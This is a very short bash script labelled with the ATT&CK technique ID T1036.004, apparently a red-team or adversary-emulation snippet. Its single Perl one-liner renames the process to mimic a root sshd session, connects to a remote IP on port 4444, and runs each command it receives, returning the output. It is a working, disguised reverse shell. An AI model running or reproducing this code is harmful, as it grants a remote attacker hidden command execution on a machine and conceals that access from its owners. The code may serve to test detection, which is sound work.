#!/bin/bash
# T1036.004: A script calls itself as a login is called, and talks outside.
perl -MIO::Socket::INET -e '$0="sshd: root\@pts/0";$s=IO::Socket::INET->new("44.128.66.66:4444");while(<$s>){last if /exit/;print $s `$_`}'
